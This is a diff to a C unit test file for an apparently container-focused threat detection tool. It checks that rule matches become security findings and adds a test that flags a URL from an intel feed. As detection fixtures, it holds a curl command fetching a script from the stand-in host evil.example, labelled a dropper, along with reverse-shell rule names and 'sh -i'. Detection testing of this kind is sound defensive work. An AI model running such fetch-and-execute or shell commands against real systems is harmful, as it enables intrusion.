@@ -25,6 +25,7 @@
 #include "attack.h"
 #include "execev.h"
 #include "finding.h"
+#include "intel.h"
 #include "json.h"
 #include "kinds.h"
 #include "scc.h"
@@ -524,8 +525,30 @@ static void load(struct whorl_sigma_set *set, const char *name, const char *text
 		fail_msg("%s", err);
 }
 
-#define at t_json_at
+#define at whorl_json_at
 #define s_at t_json_str
+
+/* Match @k of @r as an SCC finding, written for the schema checks. */
+static json_object *scc_of(const struct whorl_exec_result *r, size_t k,
+			   const struct whorl_finding *f)
+{
+	json_object *o = whorl_rule_finding_scc(r->hits[k], f, r, "node-1", CREATE_NS);
+
+	assert_non_null(o);
+	fprintf(scc_out, "%s\n", whorl_json_line(o));
+	return o;
+}
+
+/* The same as a flat finding. */
+static json_object *flat_of(const struct whorl_exec_result *r, size_t k,
+			    const struct whorl_finding *f)
+{
+	json_object *o = whorl_rule_finding_json(r->hits[k], f, r, "node-1");
+
+	assert_non_null(o);
+	fprintf(flat_out, "%s\n", whorl_json_line(o));
+	return o;
+}
 
 static void matches_become_findings_in_both_shapes(void **state)
 {
@@ -543,9 +566,7 @@ static void matches_become_findings_in_both_shapes(void **state)
 	judge(&tf, &f, &set, &r);
 	assert_int_equal(r.nhits, 2);
 
-	o = whorl_rule_finding_scc(r.hits[0], &f, &r, "node-1", CREATE_NS);
-	assert_non_null(o);
-	fprintf(scc_out, "%s\n", whorl_json_line(o));
+	o = scc_of(&r, 0, &f);
 	assert_string_equal(s_at(o, "finding.category"), "Reverse Shell");
 	assert_string_equal(s_at(o, "finding.severity"), "CRITICAL");
 	assert_string_equal(s_at(o, "finding.description"),
@@ -592,16 +613,14 @@ static void matches_become_findings_in_both_shapes(void **state)
 	json_object_put(o);
 
 	/* an informational rule without tags: LOW, its title, no mitreAttack */
-	o = whorl_rule_finding_scc(r.hits[1], &f, &r, "node-1", CREATE_NS);
-	fprintf(scc_out, "%s\n", whorl_json_line(o));
+	o = scc_of(&r, 1, &f);
 	assert_string_equal(s_at(o, "finding.category"), "LD_PRELOAD From /tmp");
 	assert_string_equal(s_at(o, "finding.severity"), "LOW");
 	assert_null(at(o, "finding.mitreAttack"));
 	assert_null(at(o, "finding.sourceProperties.techniqueIds"));
 	json_object_put(o);
 
-	o = whorl_rule_finding_json(r.hits[0], &f, &r, "node-1");
-	fprintf(flat_out, "%s\n", whorl_json_line(o));
+	o = flat_of(&r, 0, &f);
 	assert_string_equal(s_at(o, "category"), "Reverse Shell");
 	assert_string_equal(s_at(o, "eventType"), "exec");
 	assert_string_equal(s_at(o, "mitreAttack.techniqueIds.0"), "T1059.004");
@@ -609,8 +628,7 @@ static void matches_become_findings_in_both_shapes(void **state)
 	assert_string_equal(s_at(o, "rule.title"), "Shell With Its Input From The Network");
 	assert_string_equal(s_at(o, "event.CommandLine"), "sh -i");
 	json_object_put(o);
-	o = whorl_rule_finding_json(r.hits[1], &f, &r, "node-1");
-	fprintf(flat_out, "%s\n", whorl_json_line(o));
+	o = flat_of(&r, 1, &f);
 	json_object_put(o);
 
 	whorl_finding_free(&p);
@@ -619,6 +637,54 @@ static void matches_become_findings_in_both_shapes(void **state)
 }
 
 /* A rule may name a Container Threat Detection category; a misspelt one is refused. */
+/* A URL that intel lists, on a command line: whorl.IntelUrl and the shipped rule's finding. */
+static void intel_url_on_the_command_line_is_a_finding(void **state)
+{
+	static const char feed[] = "url:http://evil.example/x.sh dropper\n";
+	static const char args[] = "curl\0-fsSL\0HTTP://Evil.Example/x.sh?v=2";
+	struct t_finding tf = t_exec_shell();
+	struct whorl_sigma_set set = { 0 };
+	char err[WHORL_INTEL_ERR_MAX], path[512];
+	struct whorl_intel intel = { 0 };
+	struct whorl_exec_result r;
+	struct whorl_finding f;
+	json_object *o;
+
+	(void)state;
+	/* (the tests run in userspace/, as t_fixture() assumes) */
+	snprintf(path, sizeof(path), "%s", "../rules/malicious_url_observed.yml");
+	if (whorl_sigma_load_path(&set, path, NULL, NULL) || set.n != 1)
+		fail_msg("the shipped rule %s did not load", path);
+	assert_int_equal(whorl_intel_parse(&intel, "feed", feed, strlen(feed), err), 0);
+	tf.args = args;
+	tf.args_len = sizeof(args);
+	/* no url: lines loaded: the field is absent, the rule silent */
+	judge(&tf, &f, &set, &r);
+	assert_null(field(&r, WHORL_SF_INTEL_URL));
+	assert_int_equal(r.nhits, 0);
+	whorl_finding_free(&f);
+
+	ctx.urls = &intel.urls;
+	judge(&tf, &f, &set, &r);
+	ctx.urls = NULL;
+	assert_string_equal(field(&r, WHORL_SF_INTEL_URL), "HTTP://Evil.Example/x.sh?v=2");
+	assert_string_equal(field(&r, WHORL_SF_INTEL_URL_LABEL), "dropper");
+	assert_int_equal(r.nhits, 1);
+	o = scc_of(&r, 0, &f);
+	assert_string_equal(s_at(o, "finding.category"), "Malicious URL Observed");
+	assert_string_equal(s_at(o, "finding.severity"), "HIGH");
+	assert_non_null(at(o, "finding.sourceProperties.event"));
+	assert_string_equal(json_object_get_string(json_object_object_get(
+				    at(o, "finding.sourceProperties.event"), "whorl.IntelUrl")),
+			    "HTTP://Evil.Example/x.sh?v=2");
+	json_object_put(o);
+	o = flat_of(&r, 0, &f);
+	json_object_put(o);
+	whorl_finding_free(&f);
+	whorl_intel_free(&intel);
+	whorl_sigma_free(&set);
+}
+
 static void unknown_ctd_category_is_refused(void **state)
 {
 	static const char rule[] =
@@ -741,6 +807,7 @@ int main(void)
 		user_is_absent_when_the_container_cannot_say);
 	tests[n++] = (struct CMUnitTest)cmocka_unit_test(sigma_event_json_reads_back_the_same);
 	tests[n++] = (struct CMUnitTest)cmocka_unit_test(matches_become_findings_in_both_shapes);
+	tests[n++] = (struct CMUnitTest)cmocka_unit_test(intel_url_on_the_command_line_is_a_finding);
 	tests[n++] = (struct CMUnitTest)cmocka_unit_test(unknown_ctd_category_is_refused);
 	tests[n++] = (struct CMUnitTest)cmocka_unit_test(attack_ids_map_to_the_kinds_techniques);
 	tests[n++] = (struct CMUnitTest)cmocka_unit_test(
